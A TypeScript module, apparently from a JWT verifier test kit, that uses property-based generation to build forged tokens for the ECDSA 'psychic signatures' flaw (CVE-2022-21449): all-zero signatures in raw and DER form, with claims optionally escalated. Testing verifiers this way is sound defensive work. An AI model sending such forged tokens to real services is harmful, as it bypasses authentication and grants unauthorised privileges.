import fc from 'fast-check';
import { b64url, encodeJson } from '../compact.ts';
import type { JwtKit } from '../kit.ts';
import { claimsFor, escalationNote, type JwtMutation } from '../mutation.ts';

/** RFC 7518 §3.4: the R || S length of each ECDSA algorithm. */
const SIGNATURE_OCTETS = { ES256: 64, ES384: 96, ES512: 132 } as const;

/**
 * "Psychic signatures" (CVE-2022-21449): an ECDSA algorithm with r = s = 0, which a verifier that skips the
 * 1 ≤ r, s < n check accepts for any message. The signature is all zeros in the JWS form (R || S) or the DER
 * form some libraries take; `kid` kept or dropped; claims kept or escalated.
 *
 * RFC 7518 §3.4 (R and S as fixed-length octet sequences); RFC 7515 §5.2 step 8; FIPS 186-4 §6.4.2
 * (a signature with r or s outside [1, n−1] is invalid).
 */
export function ecdsaZeroSignatureMutation(
  kit: JwtKit,
  escalate: fc.Arbitrary<boolean> = fc.boolean(),
): fc.Arbitrary<JwtMutation> {
  const { kid: _kid, ...withoutKid } = kit.header;
  return fc
    .record({
      alg: fc.constantFrom('ES256', 'ES384', 'ES512'),
      der: fc.boolean(),
      keepKid: fc.boolean(),
      escalate,
    })
    .map(({ alg, der, keepKid, escalate: up }) => {
      const header = { ...(keepKid ? kit.header : withoutKid), alg };
      // DER SEQUENCE { INTEGER 0, INTEGER 0 }
      const signature = der
        ? Buffer.from([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00])
        : Buffer.alloc(SIGNATURE_OCTETS[alg as keyof typeof SIGNATURE_OCTETS]);
      return {
        attack: 'ecdsa-zero-signature',
        variant: `${alg}, r = s = 0 (${der ? 'DER' : 'R || S'})${keepKid ? ', kid kept' : ''}${escalationNote(up)}`,
        token: `${encodeJson(header)}.${encodeJson(claimsFor(kit, up))}.${b64url(signature)}`,
        escalated: up,
      };
    });
}
